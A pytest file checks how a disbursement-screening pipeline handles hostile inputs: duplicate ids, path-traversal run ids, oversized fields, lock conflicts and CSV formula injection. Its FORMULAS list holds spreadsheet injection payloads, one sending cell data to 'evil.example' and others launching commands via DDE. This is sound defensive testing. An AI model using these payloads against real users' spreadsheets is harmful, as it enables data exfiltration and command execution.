"""Hostile and careless inputs (issue 10), end to end on SQLite and PostgreSQL: duplicate ids,
unsafe run ids, over-long fields, unreadable files, re-runs and reviewers' decisions, formula
injection, leftovers, a read-only artifact root, concurrent runs of one id, audit export."""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import func, select

from aidvet import runs
from aidvet.audit.export import export_run
from aidvet.cli import main
from aidvet.errors import AidvetError
from aidvet.pipeline import run_pipeline
from aidvet.stages.extract import extract
from aidvet.store.db import session_scope
from aidvet.store.models import AuditEvent, Decision, Run
from aidvet.store.run_lock import RunConflict
from hostile_builders import row, unreadable_files, with_inputs, write_export

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_settings(tmp_path, store_url):
    """Settings with a private store and artifact root and the sample designated-entity list; no inputs yet."""
    from aidvet.config import settings
    from aidvet.lists import load_files
    from aidvet.lists.versions import store_version
    from aidvet.sample import designated

    designated.write_ofac_csv(tmp_path / "lists" / "sample-sdn")
    with session_scope(store_url) as session:
        store_version(session, load_files([tmp_path / "lists" / "sample-sdn"]))
    return dataclasses.replace(settings(), db_url=store_url, artifact_root=str(tmp_path / "artifacts"), inputs=())


def _published(uri: str) -> tuple[dict, dict[str, pd.DataFrame]]:
    folder = Path(uri)
    manifest = json.loads((folder / "manifest.json").read_text())
    return manifest, {name: pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)
                      for name in ("cleared", "held", "quarantined")}


def _events(url: str, kind: str) -> list[AuditEvent]:
    with session_scope(url) as session:
        return session.scalars(select(AuditEvent).where(AuditEvent.kind == kind).order_by(AuditEvent.seq)).all()


# --- 1. duplicate disbursement ids --------------------------------------------------------------


def test_duplicate_ids_identical_copies_count_once_and_differing_copies_are_all_quarantined(hostile_settings,
                                                                                           tmp_path):
    first = write_export(tmp_path / "in" / "a" / "disbursements.csv",
                         [row("D-1"), row("D-2", amount="200.00"), row("D-3")])
    second = write_export(tmp_path / "in" / "b" / "disbursements.csv",
                          [row("D-1"), row("D-2", payee="Other Payee Ltd", amount="9999.00"), row("D-4")])
    manifest, tables = _published(run_pipeline(with_inputs(hostile_settings, first, second), "dup-run"))
    published = pd.concat(tables.values())
    shas = [entry["sha256"][:12] for entry in manifest["inputs"]]
    assert sorted(published["disbursement_id"]) == sorted(["D-1", f"D-2@{shas[0]}:line 3", f"D-2@{shas[1]}:line 3",
                                                           "D-3", "D-4"])
    assert manifest["counts"]["input"] == 5  # D-1 once, D-2 twice (both quarantined), D-3, D-4
    conflicting = tables["quarantined"][tables["quarantined"]["disbursement_id"].str.startswith("D-2@")]
    assert len(conflicting) == 2 and set(conflicting["amount"]) == {"200.00", "9999.00"}
    for reason in conflicting["reason"]:
        assert "disbursement id 'D-2' not unique" in reason and str(first) in reason and str(second) in reason
    assert "D-2" not in set(tables["cleared"]["disbursement_id"]) | set(tables["held"]["disbursement_id"])
    entries = {entry["path"]: entry for entry in manifest["inputs"]}
    assert (entries[str(second)]["records"], entries[str(second)]["identical_copies"],
            entries[str(second)]["conflicting_copies"]) == (3, 1, 1)
    assert sum(e["records"] - e["identical_copies"] for e in manifest["inputs"]) == manifest["counts"]["input"]


# --- 4. unsafe run ids --------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", [".", "..", "///", "éü", "../../etc", "a/b", "~", "x" * 150 + "é"])
def test_unsafe_run_ids_map_to_one_safe_folder_segment(hostile):
    from aidvet.artifacts import ArtifactRoot

    safe = runs.safe_run_id(hostile)
    assert runs.is_safe_run_id(safe) and "/" not in safe and safe not in (".", "..")
    assert ArtifactRoot("/srv/artifacts").run_uri(safe) == f"/srv/artifacts/runs/{safe}"


def test_the_run_id_mapping_is_injective():
    ids = [".", "..", "///", "//", "/", "é", "e", "a:b", "a+b", "a_b", "a~3Ab", "a~b", "~2E", ".a", "a.", "__", "_"]
    assert len({runs.safe_run_id(i) for i in ids}) == len(ids)
    with pytest.raises(runs.UnsafeRunId):
        runs.safe_run_id("")
    with pytest.raises(runs.UnsafeRunId):
        runs.safe_run_id("é" * 60)


@pytest.mark.parametrize("name", ["..", ".", "", "a/b", "../x"])
def test_a_publish_refuses_a_folder_name_outside_its_run(name, tmp_path):
    from aidvet.artifacts import ArtifactRoot

    with pytest.raises(AidvetError, match="not a safe run folder name"):
        ArtifactRoot(str(tmp_path)).stage(name)


def test_a_hostile_run_id_publishes_only_into_its_own_folder(hostile_settings, tmp_path):
    runs_folder = Path(hostile_settings.artifact_root) / "runs"
    (runs_folder / "earlier-run").mkdir(parents=True)
    (runs_folder / "earlier-run" / "manifest.json").write_text("{}")
    (Path(hostile_settings.artifact_root) / "keep.txt").write_text("operator's file")
    settings = with_inputs(hostile_settings, write_export(tmp_path / "in" / "disbursements.csv", [row("D-1")]))
    for hostile in ("///", ".."):  # "." maps to "~2E" alike (test_unsafe_run_ids_map_to_one_safe_folder_segment)
        uri = run_pipeline(settings, hostile)
        assert Path(uri).parent == runs_folder and Path(uri).name == runs.safe_run_id(hostile)
    assert (runs_folder / "earlier-run" / "manifest.json").read_text() == "{}"
    assert (Path(hostile_settings.artifact_root) / "keep.txt").read_text() == "operator's file"
    assert sorted(p.name for p in runs_folder.iterdir()) == ["earlier-run", "~2E.", "~2F~2F~2F"]


# --- 6. over-long fields; a run that aborts is recorded ------------------------------------------


def test_over_long_values_are_quarantined_with_a_reason_and_nothing_aborts(hostile_settings, tmp_path):
    long_id, huge_amount, huge_name = "X" * 300, "1" * 101, "Big Name " * 120_000  # a ~1 MB field
    source = write_export(tmp_path / "in" / "disbursements.csv", [
        row("D-OK"), row(long_id), row("D-AMOUNT", amount=huge_amount), row("D-NAME", payee=huge_name)])
    manifest, tables = _published(run_pipeline(with_inputs(hostile_settings, source), "long-run"))
    assert manifest["counts"]["input"] == 4 and list(tables["cleared"]["disbursement_id"]) == ["D-OK"]
    reasons = dict(zip(tables["quarantined"]["disbursement_id"], tables["quarantined"]["reason"]))
    assert "value too long: amount is 101 characters, the limit is 80" in reasons["D-AMOUNT"]
    assert f"value too long: payee_name is {len(huge_name.strip())} characters" in reasons["D-NAME"]
    (cut_id,) = [d for d in reasons if d.startswith("XXXX")]
    assert len(cut_id) == 250 and "#" in cut_id
    assert "value too long: disbursement_id is 300 characters, the limit is 250" in reasons[cut_id]


def test_a_field_over_the_csv_limit_rejects_only_its_file_by_name(hostile_settings, tmp_path):
    import csv

    previous = csv.field_size_limit(1000)  # stands in for a field over aidvet's 64 MiB limit
    try:
        bad = write_export(tmp_path / "bad" / "disbursements.csv", [row("D-B", payee="N" * 5000)])
        good = write_export(tmp_path / "good" / "disbursements.csv", [row("D-G")])
        run_id = extract(with_inputs(hostile_settings, bad, good), "field-limit")
    finally:
        csv.field_size_limit(previous)
    with session_scope(hostile_settings.db_url) as session:
        entries = {e["path"]: e for e in session.get(Run, run_id).inputs}
    assert entries[str(bad)]["status"] == "rejected" and "well-formed CSV" in entries[str(bad)]["reason"]
    assert "field larger than field limit" in entries[str(bad)]["reason"]
    assert entries[str(good)]["status"] == "ingested"


def test_an_aborted_run_is_recorded_failed_with_its_stage_and_an_audit_event(hostile_settings, tmp_path):
    not_a_folder = tmp_path / "artifacts-is-a-file"
    not_a_folder.write_text("")
    settings = dataclasses.replace(with_inputs(hostile_settings, write_export(tmp_path / "in" / "disbursements.csv",
                                                                              [row("D-1")])),
                                   artifact_root=str(not_a_folder / "root"))
    with pytest.raises(AidvetError, match="cannot write"):
        run_pipeline(settings, "unwritable")
    with session_scope(settings.db_url) as session:
        run = session.get(Run, "unwritable")
        assert (run.status, run.failed_stage) == ("failed", "validate")
    (event,) = [e for e in _events(settings.db_url, "run.failed") if e.run_id == "unwritable"]
    assert event.payload["stage"] == "validate" and "Not a directory" in event.payload["reason"]


# --- 7. every input file in the manifest; the exit status says files were rejected --------------


def test_every_input_file_is_in_the_manifest_and_the_exit_status_says_files_were_rejected(
        hostile_settings, tmp_path, monkeypatch, capsys):
    good = [write_export(tmp_path / "in" / name / "disbursements.csv", [row(f"{name}-1"), row(f"{name}-2")])
            for name in ("east", "west")]
    bad = unreadable_files(tmp_path / "in" / "junk")
    inputs = [*good, *bad.values()]
    monkeypatch.setenv("AIDVET_DB_URL", hostile_settings.db_url)
    monkeypatch.setenv("AIDVET_ARTIFACT_ROOT", hostile_settings.artifact_root)
    monkeypatch.setenv("AIDVET_INPUTS", ";".join(str(p) for p in inputs))
    assert main(["run", "pipeline", "--run-id", "mixed-inputs"]) == 3
    err = capsys.readouterr().err
    for path in bad.values():
        assert f"input rejected: {path}" in err
    manifest = json.loads((Path(hostile_settings.artifact_root) / "runs" / "mixed-inputs" / "manifest.json").read_text())
    entries = {entry["path"]: entry for entry in manifest["inputs"]}
    assert set(entries) == {str(p) for p in inputs}
    assert {entries[str(p)]["status"] for p in good} == {"ingested"}
    reasons = {kind: entries[str(path)]["reason"] for kind, path in bad.items()}
    assert all(entries[str(p)]["status"] == "rejected" for p in bad.values())
    assert "UTF-8" in reasons["latin1"] and "empty" in reasons["empty"]
    assert "one of: IATI" in reasons["binary"] and "one of: IATI" in reasons["readme"]
    assert manifest["counts"]["input"] == 4
    assert main(["run", "summary", "mixed-inputs"]) == 0
    assert "input rejected" in capsys.readouterr().out


# --- 8. re-running never deletes reviewers' decisions ------------------------------------------


def test_rerunning_a_run_id_keeps_reviewers_decisions(hostile_settings):
    from aidvet.policy import load_policy

    policy = load_policy(hostile_settings.policy_path)
    with session_scope(hostile_settings.db_url) as session:
        runs.start(session, "rerun", dag_run_id="rerun", policy=policy)
        session.add_all([Decision(run_id="rerun", disbursement_id=f"D{n}", outcome="released", reason="fp",
                                  decided_by=f"alice, approved by bob") for n in range(3)]
                        + [Decision(run_id="rerun", disbursement_id="D9", outcome="cleared", reason="no hit")])
    with session_scope(hostile_settings.db_url) as session:
        runs.start(session, "rerun", dag_run_id="rerun", policy=policy)
    with session_scope(hostile_settings.db_url) as session:
        kept = session.scalars(select(Decision.decided_by).where(Decision.run_id == "rerun")).all()
    assert kept == ["alice, approved by bob"] * 3  # the policy's own decision is re-derived, people's stay


# --- 9. formula injection; 11. staging leftovers -----------------------------------------------


def test_formula_names_are_neutralized_in_csv_and_raw_in_parquet_and_leftovers_are_cleaned(hostile_settings,
                                                                                            tmp_path):
    runs_folder = Path(hostile_settings.artifact_root) / "runs"
    leftovers = [runs_folder / "formulas.staging-0badc0de", runs_folder / "formulas.old-12345678"]
    for folder in leftovers:
        folder.mkdir(parents=True)
        (folder / "cleared.csv").write_text("half written")
    other = runs_folder / "other.staging-0badc0de"
    other.mkdir()
    source = write_export(tmp_path / "in" / "disbursements.csv",
                          [row(f"F-{n}", payee=name) for n, name in enumerate(FORMULAS)] + [row("F-neg", amount="-5")])
    uri = run_pipeline(with_inputs(hostile_settings, source), "formulas")
    _manifest, tables = _published(uri)
    published = pd.concat(tables.values()).set_index("disbursement_id")
    for n, name in enumerate(FORMULAS):
        assert published.loc[f"F-{n}", "payee_name"] == "'" + name
    assert published.loc["F-neg", "amount"] == "-5"  # a number stays a number
    parquet = pd.concat(pd.read_parquet(Path(uri) / f"{n}.parquet") for n in ("cleared", "held", "quarantined"))
    assert set(FORMULAS) <= set(parquet["payee_name"])
    with session_scope(hostile_settings.db_url) as session:
        from aidvet.store.models import Disbursement
        assert session.get(Disbursement, "F-0").payee_name == FORMULAS[0]
    assert not any(folder.exists() for folder in leftovers) and other.exists()


# --- 11. concurrent runs of one id; audit export into a non-empty folder -----------------------


HOLD_LOCK = textwrap.dedent("""
    import sys
    from aidvet.store.run_lock import run_lock
    with run_lock(sys.argv[1], sys.argv[2]):
        print("held", flush=True)
        sys.stdin.readline()
""")


def test_a_second_run_of_the_same_id_at_once_is_a_clean_run_conflict(hostile_settings, tmp_path):
    settings = with_inputs(hostile_settings, write_export(tmp_path / "in" / "disbursements.csv", [row("D-1")]))
    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, settings.db_url, "busy-run"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(RunConflict, match="busy-run is being run by another process"):
            run_pipeline(settings, "busy-run")
        with pytest.raises(RunConflict):
            extract(settings, "busy-run")
    finally:
        holder.communicate("done\n", timeout=30)
    with session_scope(settings.db_url) as session:
        assert session.get(Run, "busy-run") is None  # the conflicting attempt recorded nothing about another's run
    assert Path(run_pipeline(settings, "busy-run")).name == "busy-run"  # free again once the other ended


def test_audit_export_refuses_a_non_empty_folder(hostile_settings, tmp_path):
    from aidvet.policy import load_policy

    with session_scope(hostile_settings.db_url) as session:
        runs.start(session, "exported", dag_run_id="exported", policy=load_policy(hostile_settings.policy_path))
    out = tmp_path / "bundle"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    with session_scope(hostile_settings.db_url) as session:
        with pytest.raises(AidvetError, match="not an empty folder"):
            export_run(session, "exported", out, "sqlite:///" + str(tmp_path / "no-airflow.db"))
    assert [p.name for p in out.iterdir()] == ["notes.txt"]
    with session_scope(hostile_settings.db_url) as session:
        assert session.scalar(select(func.count()).select_from(Run)) == 1
